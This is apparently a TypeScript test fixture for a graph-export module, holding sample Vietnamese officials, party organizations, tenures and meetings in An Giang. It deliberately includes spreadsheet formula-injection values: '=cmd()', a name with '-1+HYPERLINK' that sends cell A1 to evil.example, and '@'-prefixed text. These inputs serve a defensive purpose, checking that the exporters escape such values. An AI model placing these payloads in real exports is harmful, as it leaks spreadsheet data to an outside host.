// A small network with the awkward cases: diacritics, markup characters in labels, two
// relations between one pair, an edge to a node that was cut, a control character.
import type { ExportNetwork, ExportPart, ExportScope, ParticipationRow, TenureRow } from '../../src/export';

export const NETWORK: ExportNetwork = {
  truncated: true,
  nodes: [
    { id: 'person/an-giang/lê-hồng-quang', kind: 'PERSON', label: 'Lê Hồng Quang', category: null, level: null, weight: 7 },
    { id: 'person/an-giang/lê-văn-nưng', kind: 'PERSON', label: 'Lê Văn Nưng', category: null, level: null, weight: 5 },
    { id: 'org/an-giang/tinh-uy', kind: 'ORGANIZATION', label: 'Tỉnh ủy An Giang', category: 'party-committee', level: 'PROVINCE', weight: 4 },
    { id: 'meeting/an-giang/2021-06-09/x', kind: 'MEETING', label: 'Làm việc <khối> "dân vận" & MTTQ\u0001', category: 'working-session', level: null, weight: 3 },
  ],
  edges: [
    { source: 'person/an-giang/lê-hồng-quang', target: 'org/an-giang/tinh-uy', relation: 'HOLDS', weight: 1 },
    { source: 'person/an-giang/lê-hồng-quang', target: 'meeting/an-giang/2021-06-09/x', relation: 'CHAIRED', weight: 1 },
    { source: 'person/an-giang/lê-hồng-quang', target: 'meeting/an-giang/2021-06-09/x', relation: 'ATTENDED', weight: 1 },
    { source: 'person/an-giang/lê-hồng-quang', target: 'person/an-giang/lê-văn-nưng', relation: 'MET', weight: 3 },
    { source: 'person/an-giang/lê-văn-nưng', target: 'person/an-giang/dropped', relation: 'MET', weight: 1 },
  ],
};

export const TENURES: TenureRow[] = [
  {
    personId: 'person/an-giang/lê-hồng-quang', personName: 'Lê Hồng Quang', title: 'Bí thư', organizationId: 'org/an-giang/tinh-uy',
    organizationName: 'Tỉnh ủy An Giang', province: 'An Giang', district: null, status: 'CURRENT', current: true,
    firstSeen: '2021-06-09', lastSeen: '2021-06-09',
    sources: [{ articleId: 'a1', url: 'https://example.vn/a?x=1,2', title: 'T' }, { articleId: 'a2', url: null }],
  },
  {
    personId: 'person/x', personName: 'Nguyễn "Văn" A', title: 'Phó Chủ tịch, Thường trực', organizationId: 'org/y',
    organizationName: '=cmd()', province: 'An Giang', district: 'Châu Thành', status: 'FORMER', current: false,
    firstSeen: null, lastSeen: '2020-01-01', sources: [],
  },
];

export const PARTICIPATIONS: ParticipationRow[] = [
  {
    meetingId: 'meeting/an-giang/2021-06-09/x', meetingDate: '2021-06-09', meetingTitle: 'Làm việc\nvới khối dân vận', meetingKind: 'working-session',
    locality: 'An Giang', personId: 'person/an-giang/lê-hồng-quang', personName: 'Lê Hồng Quang', chair: true, roles: ['CHAIRED', 'SPOKE'],
    sources: [{ articleId: 'a1', url: 'https://example.vn/a' }],
  },
];

// Two parts of a graph, as the store reader yields them: An Giang, and what lies in no province
// (a central official who also met in An Giang, so he is in both parts). Dates cover the cases
// the writers must tell apart: a declared start, an open end, a meeting without its year.
const src = (articleId: string, url: string | null, quote: string | null = null) => ({ articleId, url, title: null, quote });

export const AN_GIANG: ExportPart = {
  province: 'An Giang',
  people: [
    { id: 'person/an-giang/lê-hồng-quang', name: 'Lê Hồng Quang', gender: 'MALE', province: 'An Giang' },
    { id: 'person/an-giang/trần-thị-hương', name: 'Trần Thị Hương', gender: 'FEMALE', province: 'An Giang' },
    { id: 'person/central/võ-văn-a', name: 'Võ Văn A', gender: null, province: null },
    { id: 'person/an-giang/x', name: '-1+HYPERLINK("https://evil.example/?q="&A1,"xem")', gender: null, province: 'An Giang' },
  ],
  organizations: [
    { id: 'org/an-giang/tinh-uy', name: 'Tỉnh ủy An Giang', kind: 'party-committee', level: 'province', province: 'An Giang', district: null, parentId: null },
    { id: 'org/an-giang/hoi-nong-dan', name: '=Hội Nông dân', kind: 'mass-organization', level: 'province', province: 'An Giang', district: null, parentId: null },
  ],
  tenures: [
    {
      personId: 'person/an-giang/lê-hồng-quang', personName: 'Lê Hồng Quang', title: 'Bí thư', positionId: 'position/an-giang/tinh-uy/bi-thu',
      organizationId: 'org/an-giang/tinh-uy', organizationName: 'Tỉnh ủy An Giang', province: 'An Giang', district: null, status: 'CURRENT', current: true,
      state: 'ENDED', start: '2020-10-15', startBasis: 'DECLARED', end: '2023-02-01', endBasis: 'SUCCESSOR_SEEN', firstSeen: '2021-06-09', lastSeen: '2022-12-20',
      citedOn: ['2021-06-09', '2022-12-20', '2022-03-01'],
      sources: [src('a1', 'https://example.vn/a?x=1,2', 'Bí thư Tỉnh ủy Lê Hồng Quang chủ trì.'), src('a2', 'https://example.vn/b')],
    },
    {
      personId: 'person/an-giang/trần-thị-hương', personName: 'Trần Thị Hương', title: 'Chủ tịch', positionId: 'position/an-giang/hoi-nong-dan/chu-tich',
      organizationId: 'org/an-giang/hoi-nong-dan', organizationName: '=Hội Nông dân', province: 'An Giang', district: null, status: 'CURRENT', current: true,
      state: 'HOLDING', start: '2024-05-01', startBasis: 'FIRST_SEEN', end: '2024-05-01', endBasis: 'LAST_SEEN', firstSeen: '2024-05-01', lastSeen: '2024-05-01',
      citedOn: ['2024-05-01'], sources: [src('a3', 'https://example.vn/c', '@Chủ tịch\tHội')],
    },
  ],
  meetings: [
    { id: 'meeting/an-giang/2021-06-09/x', date: '2021-06-09', title: 'Làm việc <khối> "dân vận" & MTTQ\u0001', kind: 'working-session', locality: 'An Giang', province: 'An Giang', sources: [src('a1', 'https://example.vn/a?x=1,2')] },
    { id: 'meeting/an-giang/2022-12-20/y', date: '2022-12-20', title: 'Hội nghị tổng kết', kind: 'conference', locality: 'An Giang', province: 'An Giang', sources: [src('a2', 'https://example.vn/b')] },
    { id: 'meeting/article/a4/0', date: '--06-30', title: 'Họp không rõ năm', kind: null, locality: 'An Giang', province: 'An Giang', sources: [] },
  ],
  participations: [
    ...['person/an-giang/lê-hồng-quang', 'person/central/võ-văn-a', 'person/an-giang/x'].map((personId, i) => ({
      meetingId: 'meeting/an-giang/2021-06-09/x', meetingDate: '2021-06-09', meetingTitle: 'Làm việc', meetingKind: 'working-session', locality: 'An Giang',
      personId, personName: ['Lê Hồng Quang', 'Võ Văn A', '-1+HYPERLINK("https://evil.example/?q="&A1,"xem")'][i], chair: i === 0, roles: i === 0 ? ['CHAIRED', 'SPOKE'] : ['ATTENDED'],
      sources: [src('a1', 'https://example.vn/a?x=1,2', 'Bí thư Tỉnh ủy Lê Hồng Quang chủ trì.')],
    })),
    ...['person/an-giang/lê-hồng-quang', 'person/central/võ-văn-a'].map((personId, i) => ({
      meetingId: 'meeting/an-giang/2022-12-20/y', meetingDate: '2022-12-20', meetingTitle: 'Hội nghị tổng kết', meetingKind: 'conference', locality: 'An Giang',
      personId, personName: ['Lê Hồng Quang', 'Võ Văn A'][i], chair: i === 0, roles: [i === 0 ? 'CHAIRED' : 'ATTENDED'], sources: [src('a2', 'https://example.vn/b')],
    })),
    ...['person/an-giang/lê-hồng-quang', 'person/central/võ-văn-a'].map((personId, i) => ({
      meetingId: 'meeting/article/a4/0', meetingDate: '--06-30', meetingTitle: 'Họp không rõ năm', meetingKind: null, locality: 'An Giang',
      personId, personName: ['Lê Hồng Quang', 'Võ Văn A'][i], chair: false, roles: ['ATTENDED'], sources: [],
    })),
  ],
  tookPart: [{ organizationId: 'org/an-giang/tinh-uy', meetingId: 'meeting/an-giang/2021-06-09/x' }],
  events: [{
    id: 'event/1', kind: 'appointed', personId: 'person/an-giang/lê-hồng-quang', positionId: 'position/an-giang/tinh-uy/bi-thu', title: 'Bí thư',
    organizationId: 'org/an-giang/tinh-uy', date: '2020-10-15', decisionNumber: '123-QĐ/TW', decidedById: null, sources: [src('a0', 'https://example.vn/z')],
  }],
};

export const CENTRAL: ExportPart = {
  province: null,
  people: [{ id: 'person/central/võ-văn-a', name: 'Võ Văn A', gender: null, province: null }],
  organizations: [{ id: 'org/central/bo-chinh-tri', name: 'Bộ Chính trị', kind: 'party-committee', level: 'central', province: null, district: null, parentId: null }],
  tenures: [{
    personId: 'person/central/võ-văn-a', personName: 'Võ Văn A', title: 'Ủy viên', positionId: 'position/central/bo-chinh-tri/uy-vien',
    organizationId: 'org/central/bo-chinh-tri', organizationName: 'Bộ Chính trị', province: null, district: null, status: 'CURRENT', current: true,
    state: 'UNKNOWN', start: '2021-01-31', startBasis: 'DECLARED', end: null, endBasis: null, firstSeen: null, lastSeen: null, citedOn: [], sources: [src('a5', null)],
  }],
  meetings: [],
  participations: [],
  tookPart: [],
  events: [],
};

export const scopeOf = (name: string, ...parts: ExportPart[]): ExportScope => ({
  name,
  async *parts() {
    yield* parts;
  },
});
